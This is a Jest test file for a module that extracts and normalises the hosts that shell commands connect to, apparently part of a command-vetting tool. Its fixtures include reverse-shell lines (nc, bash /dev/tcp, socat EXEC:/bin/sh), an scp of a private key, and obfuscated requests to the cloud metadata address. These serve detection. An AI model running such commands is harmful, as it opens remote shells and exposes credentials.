import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { canonicalHost, hostsIn, isConnecting } from './hosts.ts';

describe('hostsIn', () => {
  it.each([
    ['curl', ['-s', 'https://User:pw@Example.COM.:8443/a?b=http://x'], ['example.com', 'x']],
    ['curl', ['169.254.169.254/latest/meta-data'], ['169.254.169.254']],
    ['curl', ['http://2852039166/latest'], ['169.254.169.254']],
    ['curl', ['http://[::ffff:a9fe:a9fe]/latest'], ['169.254.169.254']],
    ['curl', ['-o', 'out.json', 'example.org/data.json'], ['example.org']],
    ['curl', ['-d', '@payload.txt', 'https://a.example'], ['a.example']],
    ['ssh', ['ann@build.internal', 'uptime'], ['build.internal']],
    ['scp', ['key.pem', 'ann@10.0.0.7:/tmp/'], ['10.0.0.7']],
    ['nc', ['203.0.113.9', '4444'], ['203.0.113.9']],
    ['bash', ['/dev/tcp/203.0.113.9/4444'], ['203.0.113.9']],
    ['socat', ['TCP:203.0.113.9:4444', 'EXEC:/bin/sh'], ['203.0.113.9']],
    ['git', ['clone', 'https://github.com/a/b.git'], ['github.com']],
    ['python', ['-c', "import urllib.request as u;u.urlopen('http://a.example/x')"], ['a.example']],
    ['ls', ['example.org'], []],
    ['echo', ['no host here'], []],
    ['curl', ['https://'], []],
  ])('%s %j', (program, words, expected) => {
    expect(hostsIn(program, words)).toEqual(expected);
  });

  it('copes with any text', () => {
    fc.assert(fc.property(fc.array(fc.string({ unit: 'binary' })), (words) => void hostsIn('curl', words)));
  });
});

it.each([
  ['git', ['commit', '-m', 'see https://x'], false],
  ['git', ['push', 'origin'], true],
  ['curl', [], true],
  ['echo', ['https://x'], false],
])('isConnecting(%s, %j) is %s', (program, args, expected) => {
  expect(isConnecting(program, args)).toBe(expected);
});

it.each([
  ['EXAMPLE.org.', 'example.org'],
  ['[2001:DB8::1]', '2001:db8::1'],
  ['bücher.example', 'bücher.example'],
  ['a b', undefined],
  ['', undefined],
  ['-x', undefined],
])('canonicalHost(%s) is %s', (host, expected) => {
  expect(canonicalHost(host)).toBe(expected);
});
